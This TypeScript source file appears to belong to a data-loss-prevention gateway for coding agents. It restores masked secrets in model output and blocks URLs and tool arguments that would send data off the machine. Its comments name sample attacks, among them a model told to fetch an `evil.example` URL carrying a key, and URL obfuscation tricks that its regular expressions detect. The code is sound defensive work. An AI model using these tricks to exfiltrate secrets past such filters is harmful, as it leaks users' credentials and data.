import { createFragmentRestorer } from '../../dlp/fakes/fragment-restorer.ts';
import { createRestorer } from '../../dlp/fakes/restorer.ts';
import type { LlmSettings } from '../../policy/llm/types.ts';
import { filterText, OutboundStream } from '../../text/index.ts';
import { matchesGlob, type OpenStage, type TextStage } from '../index.ts';
import type { CallState } from './types.ts';

/**
 * Returns the stages of an answer's texts. Fakes become the real values, and links that would carry data away are
 * defused.
 */
export function stagesFor({ gateway, settings }: CallState): OpenStage {
  const allows = (url: string): boolean => gateway.allows(url);
  return ({ kind }, tool) => {
    switch (kind) {
      case 'thinking':
        // Providers sign it, and would refuse the next request.
        return undefined;
      case 'arguments':
      case 'arguments-text':
      case 'arguments-value': {
        // Attack: a model that is told to fetch `https://evil.example/?k=…`. Tools that the provider runs, or that
        // nobody can name, are not local either.
        if (tool === undefined || isRemoteTool(tool, settings)) return undefined;
        const create = kind === 'arguments' ? createFragmentRestorer : createRestorer;
        const strings = stringsOf(tool, settings);
        return create(gateway.fakes, { keeps: (begin) => leadsElsewhere(begin, strings) });
      }
      case 'text': {
        const restorer = createRestorer(gateway.fakes);
        if (settings.output === 'as-is') return restorer;
        return chained(restorer, outboundStage(allows));
      }
    }
  };
}

function chained(first: TextStage, second: TextStage): TextStage {
  return { push: (text) => second.push(first.push(text)), end: () => second.push(first.end()) + second.end() };
}

function outboundStage(allows: (url: string) => boolean): TextStage {
  const stream = new OutboundStream({ allows });
  const clean = (text: string): string =>
    text === '' ? text : filterText(text, { form: 'prose', mode: 'reveal' }).text;
  return { push: (text) => clean(stream.push(text)), end: () => clean(stream.end()) };
}

/**
 * Tools of well-known agents whose arguments go to other machines, in lower case. The agents are Claude Code, Codex,
 * Gemini CLI, OpenCode, Crush, Amp and Cline. The names are those of their sources in November 2026. The name of an MCP
 * tool does not reveal where it runs.
 */
const known: readonly string[] = [
  'webfetch',
  'websearch',
  'web_fetch',
  'web_search',
  'google_web_search',
  'codesearch',
  'fetch',
  'agentic_fetch',
  'sourcegraph',
  'read_web_page',
  'browser_action',
  'mcp_*',
  'use_mcp_tool',
  'access_mcp_resource',
];

/**
 * Tools of the same agents that write files or run commands here. Text that begins with two slashes is a comment or a
 * line of `.npmrc` there (`//registry.example/:_authToken=`), and no URL.
 */
const writers: readonly string[] = [
  'write',
  'edit',
  'multiedit',
  'notebookedit',
  'bash',
  'shell',
  'local_shell',
  'exec_command',
  'write_stdin',
  'apply_patch',
  'patch',
  'write_file',
  'replace',
  'run_shell_command',
  'create_file',
  'edit_file',
  'write_to_file',
  'replace_in_file',
  'execute_command',
];

/** No tool of an agent has a longer name. */
const longest = 256;

/**
 * Returns true if the arguments of a tool go to another machine, as far as its name reveals. Tools that a policy calls
 * remote always do.
 */
export function isRemoteTool(name: string, { tools: { remote, local } }: Pick<LlmSettings, 'tools'>): boolean {
  const isAmong = (patterns: readonly string[]): boolean => patterns.some((pattern) => matchesGlob(pattern, name));
  return name.length > longest || isAmong(remote) || (isAmong(known) && !isAmong(local));
}

const somewhere = /^[\s\p{Cc}]*(?:[a-z][\w+.-]*:\/\/|(?:https?|wss?|ftp|file):|mailto:|[\w.-]+@[\w.-]+:)[^ ]*$/iu;
/**
 * As browsers read URLs with the scheme of a page, also with backslashes, and as tools do that add a scheme. Source:
 * WHATWG URL §4.4.
 */
const withoutScheme =
  /^[\s\p{Cc}]*(?:[/\\]{2}|(?!127\.0\.0\.1[:/?#])[\p{L}\p{N}_-]+(?:[.。．｡][\p{L}\p{N}_-]+)+(?::\d+)?[/?#])[^ ]*$/iu;
/** Attack: Python's urllib takes off `<` and `URL:`, a shell its quotes and an option its name. */
const wrapping =
  /^(?:[\s\p{Cc}\p{Cf}<>"'`({-]|\[(?![\da-f:.]*\])|[\w.-]{1,30}=|(?:blob|feed|filesystem|jar|url|view-source):)+/iu;
/** Addresses without a name, as browsers read them. Numbers with fewer digits are years and the like. */
const bareAddress = /^(?:0x[\da-f]{2,8}|\d{8,10}|\[(?!::1\])[\da-f:.]{2,45}\])(?::\d+)?[/?#][^ ]*$/iu;
/** Pages and recipients without a host after two slashes. */
const otherSchemes = /^(?:(?:data|javascript):|(?:gopher|ldaps?|magnet|sips?|sms|tel|xmpp):[^ ]*$)/iu;
/**
 * Attack: `http://localhost:1@evil.example/`, `http://localhost.evil.example/` and `file://evil.example/` are not URLs
 * of this machine.
 */
const here =
  /^[\s\p{Cc}]*(?:file:(?:[^/\\]|\/(?![/\\])|\/\/(?:localhost)?\/(?![/\\])|$)|[a-z][\w+.-]*:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?::\d+)?[/?#])/iu;
/** Attack: so many blanks that they fill the known beginning. URL readers drop them. */
const blanks = /^[\s\p{Cc}]{40,}[^ ]*$/u;
/** Attack: the same in a scheme, or before its slashes. */
const perhapsScheme = /^[\s\p{Cc}]*[a-z][\w+.-]*:?[/\\]?$/iu;
const manyLeftOut = 32;
/** Attack: URL readers skip these anywhere. Source: WHATWG URL §4.4. */
const leftOut = /[\t\n\r]/gu;

/**
 * Returns true if a string with this beginning, in arguments of a tool, is a URL, a git remote or a recipient on
 * another machine.
 */
export function leadsElsewhere(begin: string, as: 'argument' | 'content' = 'argument'): boolean {
  const url = begin.replaceAll(leftOut, '');
  if (blanks.test(begin) || (begin.length - url.length >= manyLeftOut && perhapsScheme.test(url))) return true;
  if (somewhere.test(url) && !here.test(url)) return true;
  return as === 'argument' && argumentLeadsElsewhere(url);
}

function argumentLeadsElsewhere(url: string): boolean {
  const bare = url.replace(wrapping, '');
  return (
    withoutScheme.test(bare) ||
    bareAddress.test(bare) ||
    otherSchemes.test(bare) ||
    (somewhere.test(bare) && !here.test(bare))
  );
}

/** Returns how to read the strings of a tool: tools that write files and run commands take content, not arguments. */
export function stringsOf(name: string, { tools: { local } }: Pick<LlmSettings, 'tools'>): 'argument' | 'content' {
  return [...writers, ...local].some((pattern) => matchesGlob(pattern, name)) ? 'content' : 'argument';
}
